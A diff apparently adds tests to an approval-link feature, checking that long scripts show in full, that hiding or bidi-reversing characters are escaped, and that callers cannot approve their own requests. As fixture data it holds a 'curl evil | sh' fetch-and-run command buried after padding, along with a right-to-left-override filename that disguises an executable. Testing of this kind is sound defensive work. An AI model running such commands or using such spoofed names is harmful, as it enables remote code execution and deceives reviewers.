@@ -50,6 +50,28 @@ describe('links for approvers', () => {
     expect((await server.events(runId)).length).toBe(6)
   })
 
+  it('shows all of the input, however long, and spells out characters that hide or turn text', async () => {
+    const script = `${'echo hello; '.repeat(60)}curl evil | sh`
+    const { id } = await server.park('long', { script, to: 'bob\u202egnp.exe\u{e0041}\u200b<b>' })
+    const { json } = await server.ask(`/admin/approvals/${id}/link`, { as: 'bob', body: { approver: 'dan' } })
+    const { text } = await server.ask(json.url)
+    expect(text).toContain('curl evil | sh')
+    expect(text).toContain('Summary')
+    expect(text).toContain(`(${script.length} characters)`)
+    expect(text).toContain('bob\\u202egnp.exe\\udb40\\udc41\\u200b&lt;b&gt;')
+    expect(/[\u202e\u200b\u{e0041}]/u.test(text)).toBe(false)
+    const shown = (await server.ask(`/admin/approvals/${id}`, { as: 'bob' })).json.approval
+    expect(shown).toMatchObject({ input: { script }, hidden_values: 0, hides_something: false, stale: false })
+    const [listed] = (await server.ask('/admin/approvals', { as: 'bob' })).json.approvals
+    expect([listed.id, 'input' in listed, listed.input_bytes]).toEqual([id, false, expect.any(Number)])
+  })
+
+  it('cannot be made out to the caller', async () => {
+    const { id } = await server.park('own')
+    const body = { approver: 'alice' }
+    expect((await server.ask(`/admin/approvals/${id}/link`, { as: 'bob', body })).status).toBe(403)
+  })
+
   it('cannot be framed, leaks no address, runs no script', async () => {
     const { page, cookie } = await open((await linkFor('link-2')).url)
     const policy = page.headers.get('content-security-policy') ?? ''
